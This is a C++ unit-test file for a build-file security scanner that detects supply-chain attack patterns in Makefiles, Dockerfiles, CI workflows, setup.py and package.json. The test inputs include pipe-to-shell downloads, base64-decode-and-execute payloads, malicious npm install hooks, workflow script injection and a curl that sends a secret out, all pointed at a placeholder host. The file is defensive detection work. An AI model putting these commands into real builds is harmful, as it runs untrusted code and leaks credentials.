#include "scanner/build/build_engine.h"

#include <doctest/doctest.h>

#include <chrono>
#include <string>

#include "common/error.h"
#include "rules/loader.h"
#include "scanner/build/build_checks.h"
#include "scanner/build/build_file.h"

using namespace provscan;
using namespace provscan::scan;
using namespace provscan::scan::build;

namespace {
rules::RuleSet set_of(const std::string& yaml) {
  rules::RuleSet s;
  s.rules = rules::parse_rule_file("t.yaml", yaml);
  return s;
}
std::vector<Hit> run(const Engine& e, std::string_view path, std::string_view content) {
  auto d = e.make_detector();
  std::vector<Hit> hits;
  ScanNotes notes;
  d->scan(Target{path, "b", content, "", false}, hits, notes);
  return hits;
}
// Lines hit by one check function on a file at `path`.
template <class F>
std::vector<std::uint32_t> lines(std::string_view path, std::string_view text, F&& check) {
  BuildFile f(path, text, kind_of(path));
  Hits h;
  check(f, h);
  std::vector<std::uint32_t> out;
  for (const auto& x : h) out.push_back(x.line);
  return out;
}
using L = std::vector<std::uint32_t>;
}  // namespace

TEST_CASE("build file kinds come from the path") {
  CHECK(kind_of("CMakeLists.txt") == Kind::CMake);
  CHECK(kind_of("cmake/FindX.cmake") == Kind::CMake);
  CHECK(kind_of("src/Makefile.am") == Kind::Make);
  CHECK(kind_of("rules.mk") == Kind::Make);
  CHECK(kind_of("m4/build-to-host.m4") == Kind::Autotools);
  CHECK(kind_of("configure.ac") == Kind::Autotools);
  CHECK(kind_of("setup.py") == Kind::Python);
  CHECK(kind_of("pkg/pyproject.toml") == Kind::Python);
  CHECK(kind_of("package.json") == Kind::Npm);
  CHECK(kind_of(".github/workflows/ci.yml") == Kind::GithubActions);
  CHECK(kind_of("action.yaml") == Kind::GithubActions);
  CHECK(kind_of(".gitlab-ci.yml") == Kind::GitlabCi);
  CHECK(kind_of("docker/Dockerfile.release") == Kind::Dockerfile);
  CHECK(kind_of("src/main.c") == Kind::None);
  CHECK(kind_of("docs/workflows/ci.yml") == Kind::None);
}

TEST_CASE("logical lines join backslash continuations") {
  BuildFile f("Makefile", "a: \\\n  b \\\n  c\nd\n", Kind::Make);
  REQUIRE(f.logical().size() == 2);
  CHECK(f.logical()[0].first == 1);
  CHECK(f.logical()[0].last == 3);
  CHECK(f.logical()[1].first == 4);
}

TEST_CASE("fetch-pipe-to-shell") {
  FetchOptions o;
  auto check = [&](const BuildFile& f, Hits& h) { check_fetch_pipe_to_shell(f, o, h); };
  CHECK(lines("Makefile", "x:\n\tcurl -s https://e/x | sudo bash\n", check) == L{2});
  CHECK(lines("Dockerfile", "RUN wget -qO- https://e/x |\\\n    sh -s\n", check) == L{1});
  CHECK(lines("Dockerfile", "RUN sh -c \"$(curl -fsSL https://e/x)\"\n", check) == L{1});
  CHECK(lines(".gitlab-ci.yml", "  - iex (iwr https://e/x.ps1)\n", check) == L{1});
  CHECK(lines("Makefile", "\tcurl -so t.sh https://e/t.sh && bash t.sh\n", check) == L{1});
  CHECK(lines("Makefile", "\tcurl -so t.tgz https://e/t && sha256sum -c t.sha && bash t/install.sh\n", check).empty());
  CHECK(lines("Makefile", "\tV=$$(curl -s https://e/v | jq -r .v)\n", check).empty());
  CHECK(lines("Makefile", "# curl https://e/x | sh\n", check).empty());
}

TEST_CASE("decode-exec") {
  auto check = [](const BuildFile& f, Hits& h) { check_decode_exec(f, h); };
  CHECK(lines("x.m4", "  echo \"$p\" | base64 --decode | bash\n", check) == L{1});
  CHECK(lines("x.m4", "  xxd -r -p payload.hex | sh\n", check) == L{1});
  CHECK(lines("x.m4", "  eval \"$(openssl enc -d -aes-256-cbc -in blob -k k)\"\n", check) == L{1});
  CHECK(lines("x.m4", "  sed \"r\\n\" $f | eval $map | $prefix -d 2>/dev/null\n", check) == L{1});
  CHECK(lines("x.m4", "  cat x | tr a-z n-za-m | sh\n", check) == L{1});
  CHECK(lines("x.m4", "  echo \"$c\" | base64 -d > c.der\n", check).empty());
  CHECK(lines("x.m4", "  eval \"$(ssh-agent -s)\"\n", check).empty());
  CHECK(lines("x.m4", "  xz -dc doc.xz | less\n", check).empty());
}

TEST_CASE("test-data-in-build") {
  TestDataOptions o;
  auto check = [&](const BuildFile& f, Hits& h) { check_test_data_in_build(f, o, h); };
  CHECK(lines("CMakeLists.txt", "file(READ ${S}/tests/files/x.bin v HEX)\n", check) == L{1});
  CHECK(lines("configure.ac", "x=`grep -aErls \"#{4}\" $srcdir/`\n", check) == L{1});
  CHECK(lines("Makefile", "all:\n\txz -dc tests/files/a.xz > a.o\ncheck:\n\txz -dc tests/files/a.xz | cmp - a\n", check) == L{2});
  CHECK(lines("CMakeLists.txt", "add_test(NAME t\n  COMMAND xz -t ${S}/tests/files/a.xz)\n", check).empty());
  CHECK(lines("CMakeLists.txt", "install(FILES tests/files/a.xz DESTINATION share)\n", check).empty());
}

TEST_CASE("sabotaged-feature-check: stray lines and unbalanced test programs") {
  auto check = [](const BuildFile& f, Hits& h) { check_sabotaged_feature_check(f, h); };
  CHECK(lines("CMakeLists.txt", "check_c_source_compiles(\"\n#include <a.h>\n.\nint main(void){return 0;}\n\" HAVE_A)\n", check) == L{3});
  CHECK(lines("CMakeLists.txt", "check_c_source_compiles(\"int main(void){ return 0; \" HAVE_A)\n", check) == L{1});
  CHECK(lines("CMakeLists.txt", "check_c_source_compiles(\"int main(void){ const char *s = \\\"}\\\"; return 0; }\" HAVE_A)\n", check).empty());
  CHECK(lines("CMakeLists.txt", "check_c_source_compiles(\"/*\n.\n*/ int main(void){return 0;}\" HAVE_A)\n", check).empty());
  CHECK(lines("CMakeLists.txt", "check_c_source_compiles(\"${SRC}\" HAVE_A)\n", check).empty());
  CHECK(lines("configure.ac", "AC_LINK_IFELSE([AC_LANG_PROGRAM([[#include <x.h>\n.\n]], [[int a[2];]])], [y], [n])\n", check) == L{2});
  CHECK(lines("configure.ac", "AC_TRY_COMPILE([#include <x.h>], [int a; { a = 1; }], [y], [n])\n", check).empty());
  // An unclosed call on a huge file does not rescan the rest for every occurrence.
  std::string hostile;
  for (int i = 0; i < 200000; ++i) hostile += "check_c_source_compiles(\"";
  const auto start = std::chrono::steady_clock::now();
  lines("CMakeLists.txt", hostile, check);
  CHECK(std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count() < 10.0);
}

TEST_CASE("injected-flags groups") {
  FlagOptions all;
  auto check = [&](const BuildFile& f, Hits& h) { check_injected_flags(f, all, h); };
  CHECK(lines("Makefile", "CFLAGS += -fno-stack-protector\n", check) == L{1});
  CHECK(lines("Makefile", "LDFLAGS += -Wl,--wrap=open\n", check) == L{1});
  CHECK(lines("Dockerfile", "ENV LD_PRELOAD=/opt/x.so\n", check) == L{1});
  CHECK(lines("CMakeLists.txt", "set(CMAKE_BUILD_RPATH /var/tmp/l)\n", check) == L{1});
  CHECK(lines("Makefile", "LDFLAGS += -Wl,-z,relro,-z,now,-z,noexecstack\n", check).empty());
  CHECK(lines("Makefile", "TESTS_ENVIRONMENT = LD_PRELOAD=libasan.so\n", check).empty());
  FlagOptions rpath_only;
  rpath_only.groups = kWritableRpath;
  auto only = [&](const BuildFile& f, Hits& h) { check_injected_flags(f, rpath_only, h); };
  CHECK(lines("Makefile", "CFLAGS += -fno-stack-protector\n", only).empty());
}

TEST_CASE("insecure-download") {
  auto check = [](const BuildFile& f, Hits& h) { check_insecure_download(f, h); };
  CHECK(lines("Dockerfile", "RUN curl -sk https://e/x -o x\n", check) == L{1});
  CHECK(lines("Dockerfile", "RUN git config --global http.sslVerify false\n", check) == L{1});
  CHECK(lines("Dockerfile", "RUN curl -fsSL https://e/x -o x\n", check).empty());
}

TEST_CASE("npm-lifecycle-script reads the top-level scripts object") {
  NpmOptions o;
  auto check = [&](const BuildFile& f, Hits& h) { check_npm_lifecycle_script(f, o, h); };
  const std::string pkg = R"({
  "name": "x",
  "config": { "postinstall": "curl https://e | sh" },
  "scripts": {
    "build": "curl https://e/x",
    "postinstall": "node -e \"require('child_process').execSync('id')\"",
    "prepare": "npm run build 2>&1 && tsc"
  }
})";
  CHECK(lines("package.json", pkg, check) == L{6});
  CHECK(lines("package.json", "{\"scripts\": {\"preinstall\": \"node x.js &\"}}", check) == L{1});
  CHECK(lines("package.json", "{\"scripts\": {\"preinstall\": \"unterminated", check).empty());
}

TEST_CASE("python-build-exec") {
  PythonOptions o;
  auto check = [&](const BuildFile& f, Hits& h) { check_python_build_exec(f, o, h); };
  CHECK(lines("setup.py", "import requests\nrequests.get('https://e/x')\n", check) == L{2});
  CHECK(lines("setup.py", "exec(zlib.decompress(base64.b64decode(B)))\n", check) == L{1});
  CHECK(lines("setup.py", "subprocess.call(\n    ['curl', 'https://e'])\n", check) == L{1});
  CHECK(lines("setup.py", "subprocess.check_call(['git', 'submodule', 'update'])\nsubprocess.check_call(cmd)\n", check).empty());
  CHECK(lines("setup.py", "exec(open('v.py').read())\n# os.system('curl x')\n", check).empty());
  CHECK(lines("pyproject.toml", "requires = [\"setuptools\"]\n", check).empty());
}

TEST_CASE("GitHub workflow checks") {
  const std::string wf = R"(on:
  workflow_run:
    workflows: [ci]
jobs:
  a:
    permissions: write-all
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.workflow_run.head_branch }}
      - run: echo "${{ github.event.workflow_run.head_commit.message }}"
      - run: |
          echo ${{ github.event.pull_request.number }}
          echo "${{ github.event.pull_request.title }}"
      - name: title ${{ github.event.pull_request.title }}
        env:
          T: ${{ github.event.issue.body }}
)";
  auto checkout = [](const BuildFile& f, Hits& h) { check_workflow_untrusted_checkout(f, h); };
  auto inject = [](const BuildFile& f, Hits& h) { check_workflow_script_injection(f, h); };
  auto perms = [](const BuildFile& f, Hits& h) { check_workflow_permissions(f, h); };
  CHECK(lines(".github/workflows/x.yml", wf, checkout) == L{10});
  CHECK(lines(".github/workflows/x.yml", wf, inject) == L{11, 14});
  CHECK(lines(".github/workflows/x.yml", wf, perms) == L{6});
  // Without a privileged trigger, checking out the head is ordinary.
  CHECK(lines(".github/workflows/x.yml", "on: [pull_request]\njobs:\n  a:\n    steps:\n      - with:\n          ref: ${{ github.event.pull_request.head.sha }}\n", checkout).empty());
}

TEST_CASE("secret-exfiltration on GitHub and GitLab") {
  auto check = [](const BuildFile& f, Hits& h) { check_secret_exfiltration(f, h); };
  CHECK(lines(".gitlab-ci.yml", "job:\n  script:\n  - env | base64 -w0\n  - curl -H \"PRIVATE-TOKEN: $API_TOKEN\" $URL\n", check) == L{3});
  CHECK(lines(".github/workflows/x.yml", "jobs:\n  a:\n    steps:\n      - run: curl -d \"${{ secrets.KEY }}\" https://e\n", check) == L{4});
  CHECK(lines(".github/workflows/x.yml", "jobs:\n  a:\n    steps:\n      - name: curl -d ${{ secrets.KEY }} https://e\n", check).empty());
}

TEST_CASE("remote-add-exec") {
  auto check = [](const BuildFile& f, Hits& h) { check_remote_add_exec(f, h); };
  CHECK(lines("Dockerfile", "FROM x\nADD https://e/i.sh /i.sh\nRUN bash /i.sh\n", check) == L{2});
  CHECK(lines("Dockerfile", "FROM x\nADD https://e/i.sh /opt/\nRUN /opt/i.sh || chmod +x /opt/i.sh\n", check) == L{2});
  CHECK(lines("Dockerfile", "FROM x\nADD https://e/data.csv /d.csv\nRUN bash -c 'wc -l /other'\n", check).empty());
}

TEST_CASE("build engine: kinds, paths, any, and huge lines stay linear") {
  const auto set = set_of(R"(rules:
  - {id: b.fetch, engine: build, check: fetch-pipe-to-shell, severity: high, message: m}
  - {id: b.any, engine: build, check: decode-exec, severity: high, message: m, options: {kinds: [any]}, paths: {include: ["scripts/**"]}}
  - {id: b.npm, engine: build, check: npm-lifecycle-script, severity: high, message: m}
)");
  auto engine = make_build_engine(set);
  CHECK(run(*engine, "Makefile", "x:\n\tcurl https://e | sh\n").size() == 1);
  CHECK(run(*engine, "src/x.sh", "curl https://e | sh\n").empty());  // not a build file
  CHECK(run(*engine, "scripts/x.sh", "echo $p | base64 -d | sh\n").size() == 1);
  std::string huge;
  huge.reserve(10u << 20);
  while (huge.size() < (10u << 20)) huge += "curl base64 -d $x -d | tests/a.xz eval $(wget ";
  const auto start = std::chrono::steady_clock::now();
  run(*engine, "Makefile", huge);
  run(*engine, "package.json", "{\"scripts\": {\"install\": \"" + huge + "\"}}");
  const auto all = set_of(R"(rules:
  - {id: a1, engine: build, check: test-data-in-build, severity: high, message: m}
  - {id: a2, engine: build, check: injected-flags, severity: high, message: m}
  - {id: a3, engine: build, check: insecure-download, severity: high, message: m}
  - {id: a4, engine: build, check: sabotaged-feature-check, severity: high, message: m}
)");
  run(*make_build_engine(all), "CMakeLists.txt", huge);
  CHECK(std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count() < 30.0);
}

TEST_CASE("build engine: unknown checks and bad options are rule errors with file:line:col") {
  CHECK_THROWS_WITH_AS(make_build_engine(set_of("rules:\n  - {id: b.x, engine: build, check: nope, severity: low, message: m}\n")),
                       doctest::Contains("t.yaml:2:10: rule b.x: unknown build check 'nope' (known: decode-exec, "),
                       InputError);
  CHECK_THROWS_WITH_AS(
      make_build_engine(set_of("rules:\n  - {id: b.x, engine: build, check: decode-exec, severity: low, message: m, options: {kinds: [maven]}}\n")),
      doctest::Contains("t.yaml:2:10: rule b.x: option 'kinds': unknown value 'maven' (known: any, cmake,"), InputError);
  CHECK_THROWS_WITH_AS(
      make_build_engine(set_of("rules:\n  - {id: b.x, engine: build, check: decode-exec, severity: low, message: m, options: {fetchers: [curl]}}\n")),
      "t.yaml:2:10: rule b.x: unknown option 'fetchers' for build check 'decode-exec' (known: kinds)", InputError);
  CHECK_THROWS_WITH_AS(
      make_build_engine(set_of("rules:\n  - {id: b.x, engine: build, check: injected-flags, severity: low, message: m, options: {groups: [all]}}\n")),
      "t.yaml:2:10: rule b.x: option 'groups': unknown value 'all' (known: hardening-off, symbol-override, preload, writable-rpath)",
      InputError);
  CHECK_THROWS_WITH_AS(
      make_build_engine(set_of("rules:\n  - {id: b.x, engine: build, check: injected-flags, severity: low, message: m, options: {writable_dirs: [tmp]}}\n")),
      "t.yaml:2:10: rule b.x: option 'writable_dirs': 'tmp' must be an absolute path", InputError);
  CHECK_THROWS_WITH_AS(
      make_build_engine(set_of("rules:\n  - {id: b.x, engine: build, check: test-data-in-build, severity: low, message: m, options: {test_dirs: [a/b]}}\n")),
      "t.yaml:2:10: rule b.x: option 'test_dirs': 'a/b' must be a single folder name", InputError);
}
